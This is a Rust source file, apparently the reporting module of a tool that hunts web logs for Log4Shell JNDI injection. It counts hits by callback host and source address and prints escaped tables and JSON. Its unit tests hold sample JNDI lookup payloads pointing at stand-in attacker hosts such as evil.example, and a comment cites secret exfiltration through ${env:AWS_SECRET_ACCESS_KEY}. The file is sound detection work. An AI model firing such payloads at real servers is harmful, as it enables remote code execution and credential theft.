//! What a hunt reports: a table for people, JSON lines for machines, and a [`Tally`] of hits by
//! class, callback host and source address that the summary, the STIX bundle and the threat
//! report are built from. Functions here return text; the CLI decides where it goes.

use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use std::hash::BuildHasher as _;

use hashbrown::hash_table;
use hashbrown::{DefaultHashBuilder, HashMap, HashTable};
use serde::Serialize;

use super::input::HuntTotals;
use super::{Exfiltration, Hit, HitClass};

/// Longest decoded payload shown in a table row, in characters.
pub const TABLE_PAYLOAD_CHARS: usize = 80;

/// Bit of each JNDI protocol in [`TargetTally`], by canonical name; others are kept by name.
const KNOWN_PROTOCOLS: [&str; 10] = [
    "corba", "dns", "http", "https", "iiop", "ldap", "ldaps", "nds", "nis", "rmi",
];

/// How often one callback host was named, and how.
///
/// Kept small: in a hunt over an attack campaign nearly every hit names a new host, so the tally
/// holds one of these per hit. What most hosts never have (a second port, an unusual protocol,
/// exfiltration) lives in a box allocated only for the hosts that have it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TargetTally {
    /// Hits naming the host.
    pub hits: u64,
    /// Known protocols used with it, one bit per [`KNOWN_PROTOCOLS`] entry.
    known_protocols: u16,
    /// The port of the first hit that gave one.
    first_port: Option<u16>,
    /// Other protocols, every port once there are two, and exfiltration.
    rare: Option<Box<RareTargetFacts>>,
}

/// The parts of a [`TargetTally`] that most hosts do not have.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct RareTargetFacts {
    /// Protocols not in [`KNOWN_PROTOCOLS`], lower-cased.
    other_protocols: BTreeSet<String>,
    /// Every port used with the host, once it was named with two; empty before.
    ports: BTreeSet<u16>,
    /// Victim data sent to the host, e.g. `${env:AWS_SECRET_ACCESS_KEY}`.
    exfiltration: BTreeSet<String>,
}

impl TargetTally {
    /// JNDI protocols used with the host, e.g. `ldap`, in alphabetical order.
    pub fn protocols(&self) -> Vec<&str> {
        let mut protocols: Vec<&str> = KNOWN_PROTOCOLS
            .iter()
            .enumerate()
            .filter(|(bit, _)| self.known_protocols & (1 << bit) != 0)
            .map(|(_, name)| *name)
            .chain(
                self.rare
                    .iter()
                    .flat_map(|rare| rare.other_protocols.iter().map(String::as_str)),
            )
            .collect();
        protocols.sort_unstable();
        protocols
    }

    /// Ports used with the host, in increasing order.
    pub fn ports(&self) -> Vec<u16> {
        match &self.rare {
            Some(rare) if !rare.ports.is_empty() => rare.ports.iter().copied().collect(),
            _ => self.first_port.into_iter().collect(),
        }
    }

    /// Victim data sent to the host, e.g. `${env:AWS_SECRET_ACCESS_KEY}`, in text order.
    pub fn exfiltration(&self) -> Vec<&str> {
        self.rare.as_ref().map_or_else(Vec::new, |rare| {
            rare.exfiltration.iter().map(String::as_str).collect()
        })
    }

    fn rare(&mut self) -> &mut RareTargetFacts {
        self.rare.get_or_insert_with(Box::default)
    }

    fn add_protocol(&mut self, name: &str) {
        match KNOWN_PROTOCOLS.iter().position(|known| *known == name) {
            Some(bit) => self.known_protocols |= 1 << bit,
            None => {
                let other = &mut self.rare().other_protocols;
                if !other.contains(name) {
                    other.insert(name.to_string());
                }
            }
        }
    }

    fn add_port(&mut self, port: u16) {
        match self.first_port {
            None => self.first_port = Some(port),
            Some(first) if first == port => {}
            Some(first) => {
                let ports = &mut self.rare().ports;
                if ports.is_empty() {
                    ports.insert(first);
                }
                ports.insert(port);
            }
        }
    }

    fn add_exfiltration(&mut self, leak: &Exfiltration) {
        let leak = leak.to_string();
        let known = &mut self.rare().exfiltration;
        if !known.contains(&leak) {
            known.insert(leak);
        }
    }
}

/// The first hit of a hunt, as evidence of when and where the attack was seen.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FirstHit {
    /// The input it is in.
    pub input: String,
    /// Its line number.
    pub line_number: u64,
    /// What it decodes to.
    pub decoded_payload: String,
}

/// Callback hosts with their tallies, in first-seen order. The host names are kept one after
/// the other in one string rather than a string each (nearly every host of a campaign is new,
/// and each cost an allocation), and the hash table holds only 32-bit positions, so it stays
/// small enough for the cache while the entries are appended.
#[derive(Debug, Clone, Default)]
struct TargetTable {
    /// Positions in `entries`, by the hash of the host.
    index: HashTable<u32>,
    /// One per host, in first-seen order.
    entries: Vec<TargetEntry>,
    /// The host names, each at its entry's `start..end`.
    names: String,
    hasher: DefaultHashBuilder,
}

#[derive(Debug, Clone)]
struct TargetEntry {
    /// Hash of the host name, kept for growing the table without hashing again.
    hash: u64,
    start: usize,
    end: usize,
    tally: TargetTally,
}

impl TargetTable {
    fn name(&self, entry: &TargetEntry) -> &str {
        &self.names[entry.start..entry.end]
    }

    /// The tally of `host`, added empty when it is new; one hash and one probe either way.
    fn entry(&mut self, host: &str) -> &mut TargetTally {
        let hash = self.hasher.hash_one(host);
        let Self {
            index,
            entries,
            names,
            ..
        } = self;
        let position = match index.entry(
            hash,
            |&i| &names[entries[i as usize].start..entries[i as usize].end] == host,
            |&i| entries[i as usize].hash,
        ) {
            hash_table::Entry::Occupied(found) => *found.get() as usize,
            hash_table::Entry::Vacant(vacant) => {
                let position = entries.len();
                let position_u32 =
                    u32::try_from(position).expect("fewer than 2^32 distinct callback hosts");
                let start = names.len();
                names.push_str(host);
                entries.push(TargetEntry {
                    hash,
                    start,
                    end: names.len(),
                    tally: TargetTally::default(),
                });
                vacant.insert(position_u32);
                position
            }
        };
        &mut entries[position].tally
    }

    fn get(&self, host: &str) -> Option<&TargetTally> {
        let hash = self.hasher.hash_one(host);
        self.index
            .find(hash, |&i| self.name(&self.entries[i as usize]) == host)
            .map(|&i| &self.entries[i as usize].tally)
    }

    fn iter(&self) -> impl Iterator<Item = (&str, &TargetTally)> {
        self.entries
            .iter()
            .map(|entry| (self.name(entry), &entry.tally))
    }

    fn len(&self) -> usize {
        self.entries.len()
    }
}

/// Hits counted by class, callback host and source address.
///
/// Hosts and sources are counted in hash tables and sorted only when asked for: in a campaign
/// nearly every hit names a new callback host, and keeping them ordered while counting (a
/// B-tree of strings) cost more than finding the hit.
#[derive(Debug, Clone, Default)]
pub struct Tally {
    /// Hits per class, indexed like [`HitClass::ALL`].
    class_hits: [u64; HitClass::ALL.len()],
    /// Callback hosts, lower-cased, with lookups left in place.
    targets: TargetTable,
    /// IPv4 source addresses (as numbers, which hash faster than addresses) and their hit
    /// counts; nearly every hit of a campaign comes from a new one.
    sources_v4: HashMap<u32, u64>,
    /// IPv6 source addresses and their hit counts.
    sources_v6: HashMap<u128, u64>,
    /// Distinct decoded payloads, the first [`Tally::MAX_EXAMPLES`] seen.
    examples: Vec<String>,
    /// The first hit recorded.
    first: Option<FirstHit>,
}

impl Tally {
    /// Most example payloads kept.
    pub const MAX_EXAMPLES: usize = 10;

    /// Counts one hit found in `input`.
    pub fn record(&mut self, input: &str, hit: &Hit) {
        self.class_hits[class_index(hit.class)] += 1;
        if let Some(host) = &hit.target_host {
            // Hosts are mostly lower-case already: no allocation for the lookup then.
            let upper = if host.is_ascii() {
                host.bytes().any(|b| b.is_ascii_uppercase())
            } else {
                host.chars().any(char::is_uppercase)
            };
            let host: Cow<'_, str> = if upper {
                Cow::Owned(host.to_lowercase())
            } else {
                Cow::Borrowed(host)
            };
            let target = self.targets.entry(&host);
            target.hits += 1;
            if let Some(protocol) = &hit.protocol {
                target.add_protocol(protocol.as_str());
            }
            if let Some(port) = hit.target_port {
                target.add_port(port);
            }
            for leak in &hit.exfiltration {
                target.add_exfiltration(leak);
            }
        }
        match hit.source_ip {
            Some(IpAddr::V4(ip)) => *self.sources_v4.entry(ip.to_bits()).or_default() += 1,
            Some(IpAddr::V6(ip)) => *self.sources_v6.entry(ip.to_bits()).or_default() += 1,
            None => {}
        }
        if self.examples.len() < Self::MAX_EXAMPLES && !self.examples.contains(&hit.decoded_payload)
        {
            self.examples.push(hit.decoded_payload.clone());
        }
        if self.first.is_none() {
            self.first = Some(FirstHit {
                input: input.to_string(),
                line_number: hit.line_number,
                decoded_payload: hit.decoded_payload.clone(),
            });
        }
    }

    /// Total hits counted.
    pub fn hits(&self) -> u64 {
        self.class_hits.iter().sum()
    }

    /// Hits of one class.
    pub fn class_hits(&self, class: HitClass) -> u64 {
        self.class_hits[class_index(class)]
    }

    /// Hits per class name (`jndi`, `exfiltration`, ...), for the classes seen.
    pub fn hits_per_class(&self) -> BTreeMap<&'static str, u64> {
        HitClass::ALL
            .iter()
            .map(|&class| (class.as_str(), self.class_hits(class)))
            .filter(|&(_, hits)| hits > 0)
            .collect()
    }

    /// Callback hosts (lower-cased, with lookups left in place) in name order.
    pub fn targets(&self) -> Vec<(&str, &TargetTally)> {
        let mut targets: Vec<(&str, &TargetTally)> = self.targets.iter().collect();
        targets.sort_unstable_by(|a, b| a.0.cmp(b.0));
        targets
    }

    /// What is known about one callback host, given lower-cased.
    pub fn target(&self, host: &str) -> Option<&TargetTally> {
        self.targets.get(host)
    }

    /// Distinct callback hosts.
    pub fn distinct_targets(&self) -> usize {
        self.targets.len()
    }

    /// Source addresses and their hit counts, in address order.
    pub fn sources(&self) -> Vec<(IpAddr, u64)> {
        let mut sources: Vec<(IpAddr, u64)> = self
            .sources_v4
            .iter()
            .map(|(&ip, &n)| (IpAddr::V4(Ipv4Addr::from_bits(ip)), n))
            .chain(
                self.sources_v6
                    .iter()
                    .map(|(&ip, &n)| (IpAddr::V6(Ipv6Addr::from_bits(ip)), n)),
            )
            .collect();
        sources.sort_unstable();
        sources
    }

    /// Distinct source addresses.
    pub fn distinct_sources(&self) -> usize {
        self.sources_v4.len() + self.sources_v6.len()
    }

    /// Distinct decoded payloads, the first [`Tally::MAX_EXAMPLES`] seen.
    pub fn examples(&self) -> &[String] {
        &self.examples
    }

    /// The first hit recorded.
    pub fn first(&self) -> Option<&FirstHit> {
        self.first.as_ref()
    }
}

/// Position of `class` in [`HitClass::ALL`].
fn class_index(class: HitClass) -> usize {
    match class {
        HitClass::Jndi => 0,
        HitClass::Exfiltration => 1,
        HitClass::RecursionDos => 2,
        HitClass::PostExploitation => 3,
    }
}

/// The closing totals of a hunt, printed last (`"type": "summary"` in JSON lines).
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Summary {
    /// Always `summary`, to tell this line from hit lines.
    #[serde(rename = "type")]
    pub kind: &'static str,
    /// Files, bytes, lines and hits.
    #[serde(flatten)]
    pub totals: HuntTotals,
    /// Hits per class name; every class is listed, with 0 when absent.
    pub hits_per_class: BTreeMap<&'static str, u64>,
    /// Distinct callback hosts.
    pub distinct_targets: usize,
    /// Distinct source addresses.
    pub distinct_sources: usize,
    /// Problems with inputs, one sentence each.
    pub warnings: Vec<String>,
    /// Wall-clock time of the scan.
    pub elapsed_seconds: f64,
    /// Scanned (decompressed) megabytes (10^6 bytes) per second.
    pub megabytes_per_second: f64,
}

impl Summary {
    /// Builds the summary from the run's totals, tally, warnings and duration.
    pub fn new(
        totals: HuntTotals,
        tally: &Tally,
        warnings: Vec<String>,
        elapsed_seconds: f64,
    ) -> Self {
        let mut hits_per_class: BTreeMap<&'static str, u64> =
            HitClass::ALL.iter().map(|c| (c.as_str(), 0)).collect();
        hits_per_class.extend(tally.hits_per_class());
        let megabytes_per_second = if elapsed_seconds > 0.0 {
            totals.scan.bytes as f64 / 1e6 / elapsed_seconds
        } else {
            0.0
        };
        Self {
            kind: "summary",
            totals,
            hits_per_class,
            distinct_targets: tally.distinct_targets(),
            distinct_sources: tally.distinct_sources(),
            warnings,
            elapsed_seconds,
            megabytes_per_second,
        }
    }

    /// The summary as a few lines of text for people.
    pub fn to_text(&self) -> String {
        let t = &self.totals;
        let mut text = format!(
            "scanned {} file(s) ({} compressed, {} unreadable), {} lines, {:.1} MB in {:.2} s ({:.0} MB/s)\n",
            t.files,
            t.compressed_files,
            t.failed_files,
            t.scan.lines,
            t.scan.bytes as f64 / 1e6,
            self.elapsed_seconds,
            self.megabytes_per_second
        );
        let classes: Vec<String> = self
            .hits_per_class
            .iter()
            .map(|(class, n)| format!("{class} {n}"))
            .collect();
        let _ = writeln!(
            text,
            "{} hit(s): {}; {} suppressed; {} callback host(s), {} source address(es)",
            t.scan.hits,
            classes.join(", "),
            t.scan.suppressed,
            self.distinct_targets,
            self.distinct_sources
        );
        for warning in &self.warnings {
            let _ = writeln!(text, "warning: {warning}");
        }
        text
    }
}

/// The header line of the hit table.
pub fn table_header() -> String {
    format!(
        "{:<40} {:>12} {:<17} {:<6} {:<32} {:<15} {}",
        "FILE:LINE", "OFFSET", "CLASS", "PROTO", "TARGET", "SOURCE", "DECODED PAYLOAD"
    )
}

/// One table row for a hit; attacker text is escaped so it cannot drive the terminal.
pub fn table_row(input: &str, hit: &Hit) -> String {
    let mut row = String::with_capacity(192);
    push_table_row(&mut row, input, hit);
    row
}

/// Appends [`table_row`]'s text to `row`. The columns are padded by hand: `format!` with
/// widths counts and pads each argument through the formatting machinery, which made
/// printing a large part of a hunt's cost on logs full of attacks.
pub fn push_table_row(row: &mut String, input: &str, hit: &Hit) {
    let mut number = itoa::Buffer::new();
    let location_start = row.len();
    row.push_str(input);
    row.push(':');
    row.push_str(number.format(hit.line_number));
    make_printable_from(row, location_start, 60);
    pad_from(row, location_start, 40);
    row.push(' ');
    let offset = number.format(hit.byte_offset);
    push_spaces(row, 12usize.saturating_sub(offset.len()));
    row.push_str(offset);
    row.push(' ');
    // Class names and addresses are ASCII: their length is their width.
    let class_start = row.len();
    row.push_str(hit.class.as_str());
    if hit.suppressed {
        row.push_str("(supp)");
    }
    push_spaces(row, 17usize.saturating_sub(row.len() - class_start));
    row.push(' ');
    let protocol_start = row.len();
    row.push_str(hit.protocol.as_ref().map_or("-", |p| p.as_str()));
    pad_from(row, protocol_start, 6);
    row.push(' ');
    let target_start = row.len();
    match (&hit.target_host, hit.target_port) {
        (Some(host), port) => {
            row.push_str(host);
            if let Some(port) = port {
                row.push(':');
                row.push_str(number.format(port));
            }
        }
        _ => row.push('-'),
    }
    make_printable_from(row, target_start, 48);
    pad_from(row, target_start, 32);
    row.push(' ');
    let source_start = row.len();
    match hit.source_ip {
        // Four numbers written directly: the formatting machinery cost more than the rest of
        // the column.
        Some(IpAddr::V4(ip)) => {
            for (index, octet) in ip.octets().into_iter().enumerate() {
                if index > 0 {
                    row.push('.');
                }
                row.push_str(number.format(octet));
            }
        }
        Some(ip) => {
            let _ = write!(row, "{ip}");
        }
        None => row.push('-'),
    }
    push_spaces(row, 15usize.saturating_sub(row.len() - source_start));
    row.push(' ');
    push_printable(row, &hit.decoded_payload, TABLE_PAYLOAD_CHARS);
}

/// Makes what was appended to `row` since `start` [`printable`]. Fields are written straight
/// into the row; only the rare one with control characters or too long is copied out to be
/// escaped or cut.
fn make_printable_from(row: &mut String, start: usize, max_chars: usize) {
    if is_plain(&row[start..], max_chars) {
        return;
    }
    let text = row.split_off(start);
    push_printable(row, &text, max_chars);
}

/// Pads what was appended to `row` since `start` with spaces to `width` characters, as `{:<width}`.
fn pad_from(row: &mut String, start: usize, width: usize) {
    let field = &row[start..];
    // Nearly every field is ASCII, where bytes are characters; counting characters goes
    // through a general loop that cost more than the check.
    let chars = if field.is_ascii() {
        field.len()
    } else {
        field.chars().count()
    };
    push_spaces(row, width.saturating_sub(chars));
}

/// Appends `count` spaces, a slice at a time rather than a character at a time.
fn push_spaces(row: &mut String, mut count: usize) {
    const SPACES: &str = "                                ";
    while count > 0 {
        let n = count.min(SPACES.len());
        row.push_str(&SPACES[..n]);
        count -= n;
    }
}

/// A hit as one JSON object with the input it was found in (`"type": "hit"`).
pub fn json_line(input: &str, hit: &Hit) -> String {
    #[derive(Serialize)]
    struct Line<'a> {
        #[serde(rename = "type")]
        kind: &'static str,
        path: &'a str,
        #[serde(flatten)]
        hit: &'a Hit,
    }
    serde_json::to_string(&Line {
        kind: "hit",
        path: input,
        hit,
    })
    .expect("a hit always serializes")
}

/// `text` with control characters escaped, cut to `max_chars` with an ellipsis.
pub fn printable(text: &str, max_chars: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max_chars * 2));
    push_printable(&mut out, text, max_chars);
    out
}

/// True when [`printable`] leaves `text` as it is: short, without control characters (0xC2
/// starts the UTF-8 of U+0080..U+00BF, which holds the C1 controls).
fn is_plain(text: &str, max_chars: usize) -> bool {
    // Every byte is looked at (no early exit), which lets the compiler check many at once.
    text.len() <= max_chars
        && !text.bytes().fold(false, |seen, b| {
            seen | (b < 0x20) | (b == 0x7f) | (b == 0xc2)
        })
}

/// Appends [`printable`]'s text to `out`.
fn push_printable(out: &mut String, text: &str, max_chars: usize) {
    if is_plain(text, max_chars) {
        out.push_str(text);
        return;
    }
    // The printable ASCII start (most of a long payload) is copied at once: one byte is one
    // character there.
    let limit = text.len().min(max_chars);
    let start = &text.as_bytes()[..limit];
    // Checking every byte at once (vectorized) first: nearly always they all are printable.
    let run = if start
        .iter()
        .fold(true, |all, b| all & (0x20..0x7f).contains(b))
    {
        limit
    } else {
        start
            .iter()
            .position(|b| !(0x20..0x7f).contains(b))
            .unwrap_or(limit)
    };
    out.push_str(&text[..run]);
    for (count, c) in text[run..].chars().enumerate().map(|(i, c)| (run + i, c)) {
        if count == max_chars {
            out.push('…');
            break;
        }
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hunt::Hunter;

    fn hit(line: &str) -> Hit {
        Hunter::default().scan_line(line.as_bytes()).remove(0)
    }

    #[test]
    fn tally_and_summary() {
        let mut tally = Tally::default();
        let a = hit(
            r#"203.0.113.7 - - [10/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://Evil.example:1389/a}""#,
        );
        let b = hit("${jndi:rmi://evil.example/b}");
        tally.record("access.log", &a);
        tally.record("access.log", &b);
        assert_eq!(tally.hits(), 2);
        let target = tally.target("evil.example").unwrap();
        assert_eq!(target.hits, 2);
        assert_eq!(target.protocols(), ["ldap", "rmi"]);
        assert_eq!(target.ports(), [1389]);
        assert_eq!(tally.distinct_sources(), 1);
        assert_eq!(tally.first().unwrap().line_number, 1);

        let totals = HuntTotals {
            files: 1,
            ..HuntTotals::default()
        };
        let summary = Summary::new(totals, &tally, vec!["x: broken".into()], 0.5);
        assert_eq!(summary.hits_per_class["jndi"], 2);
        assert_eq!(summary.hits_per_class["recursion_dos"], 0);
        let json = serde_json::to_value(&summary).unwrap();
        assert_eq!(json["type"], "summary");
        assert_eq!(json["files"], 1);
        assert!(summary.to_text().contains("warning: x: broken"));
    }

    #[test]
    fn tally_sorts_hosts_sources_and_protocols_when_asked() {
        let mut tally = Tally::default();
        for line in [
            "203.0.113.9 - - [x] \"GET /${jndi:rmi://b.example/x} HTTP/1.1\" 200 1",
            "198.51.100.1 - - [x] \"GET /${jndi:iiop://a.example/x} HTTP/1.1\" 200 1",
            "${jndi:Custom://b.example:99/x}",
            "${jndi:ldap://B.example:7/x}",
            "203.0.113.9 - - [x] \"GET /${jndi:dns://c.example/x} HTTP/1.1\" 200 1",
        ] {
            tally.record("t.log", &hit(line));
        }
        let hosts: Vec<&str> = tally.targets().iter().map(|(host, _)| *host).collect();
        assert_eq!(hosts, ["a.example", "b.example", "c.example"]);
        let b = tally.target("b.example").unwrap();
        assert_eq!(b.hits, 3);
        assert_eq!(b.protocols(), ["custom", "ldap", "rmi"]);
        assert_eq!(b.ports(), [7, 99]);
        let sources: Vec<(String, u64)> = tally
            .sources()
            .iter()
            .map(|(ip, n)| (ip.to_string(), *n))
            .collect();
        assert_eq!(
            sources,
            [
                ("198.51.100.1".to_string(), 1),
                ("203.0.113.9".to_string(), 2)
            ]
        );
        assert_eq!(
            tally.hits_per_class().into_iter().collect::<Vec<_>>(),
            [("jndi", 5)]
        );
        assert_eq!(tally.class_hits(HitClass::RecursionDos), 0);
    }

    #[test]
    fn many_hosts_are_counted_as_a_map_would() {
        let mut tally = Tally::default();
        let mut reference: BTreeMap<String, u64> = BTreeMap::new();
        let mut hit = hit("${jndi:ldap://a.example/x}");
        for i in 0..20_000u64 {
            // Repeats, upper case and long names among them.
            let host = match i % 7 {
                0 => format!("H{}.Example", i % 500),
                1 => format!("{}.{}.example", "x".repeat((i % 90) as usize), i),
                _ => format!("h{}.example", (i * 7919) % 9000),
            };
            *reference.entry(host.to_lowercase()).or_default() += 1;
            hit.target_host = Some(host);
            tally.record("t.log", &hit);
        }
        let counted: Vec<(&str, u64)> = tally
            .targets()
            .iter()
            .map(|(host, target)| (*host, target.hits))
            .collect();
        let expected: Vec<(&str, u64)> = reference.iter().map(|(h, n)| (h.as_str(), *n)).collect();
        assert_eq!(counted, expected);
        assert_eq!(tally.distinct_targets(), reference.len());
        for (host, hits) in &reference {
            assert_eq!(tally.target(host).map(|t| t.hits), Some(*hits), "{host}");
        }
        assert!(tally.target("absent.example").is_none());
    }

    /// The row as it was first written, with `format!` widths: the hand-padded row must match.
    fn reference_row(input: &str, hit: &Hit) -> String {
        let location = format!("{input}:{}", hit.line_number);
        let target = match (&hit.target_host, hit.target_port) {
            (Some(host), Some(port)) => format!("{host}:{port}"),
            (Some(host), None) => host.clone(),
            _ => "-".to_string(),
        };
        let mut class = hit.class.as_str().to_string();
        if hit.suppressed {
            class.push_str("(supp)");
        }
        format!(
            "{:<40} {:>12} {:<17} {:<6} {:<32} {:<15} {}",
            printable(&location, 60),
            hit.byte_offset,
            class,
            hit.protocol.as_ref().map_or("-", |p| p.as_str()),
            printable(&target, 48),
            hit.source_ip
                .map_or_else(|| "-".to_string(), |ip| ip.to_string()),
            printable(&hit.decoded_payload, TABLE_PAYLOAD_CHARS)
        )
    }

    #[test]
    fn rows_match_the_format_widths_for_every_corpus_line() {
        let hunter = Hunter::default();
        let long_name = format!("logs/{}\u{1b}/ä.log", "x".repeat(70));
        let mut rows = 0;
        for (i, line) in crate::hunt::corpus::generate(11, 600).iter().enumerate() {
            for mut hit in hunter.scan_line(line.text.as_bytes()) {
                hit.byte_offset = (i as u64).pow(3);
                hit.suppressed = i % 5 == 0;
                for input in ["a.log", long_name.as_str(), "-"] {
                    assert_eq!(table_row(input, &hit), reference_row(input, &hit));
                    rows += 1;
                }
            }
        }
        assert!(rows > 1000, "{rows}");
        let mut odd = hit("${jndi:ldap://a.example/x}");
        odd.target_host = Some(format!("h\u{7}ö{}", "q".repeat(60)));
        odd.target_port = Some(1389);
        odd.source_ip = "2001:db8::1".parse().ok();
        odd.protocol = None;
        assert_eq!(table_row("f", &odd), reference_row("f", &odd));
        for payload in [
            format!("{}\u{7}{}", "a".repeat(50), "b".repeat(50)),
            format!("{}é{}", "a".repeat(79), "b".repeat(5)),
            "c".repeat(81),
        ] {
            odd.decoded_payload = payload;
            assert_eq!(table_row("f", &odd), reference_row("f", &odd));
        }
    }

    #[test]
    fn rows_escape_attacker_text() {
        let mut h = hit("${jndi:ldap://a.example/x}");
        h.decoded_payload = "\u{1b}[31mred\u{1b}[0m".to_string() + &"y".repeat(200);
        let row = table_row("f.log", &h);
        assert!(!row.contains('\u{1b}'));
        assert!(row.contains("\\u{1b}[31mred"));
        assert!(row.ends_with('…'));
        let json: serde_json::Value = serde_json::from_str(&json_line("f.log", &h)).unwrap();
        assert_eq!(json["type"], "hit");
        assert_eq!(json["path"], "f.log");
        assert_eq!(json["class"], "jndi");
        assert_eq!(json["target_host"], "a.example");
    }
}
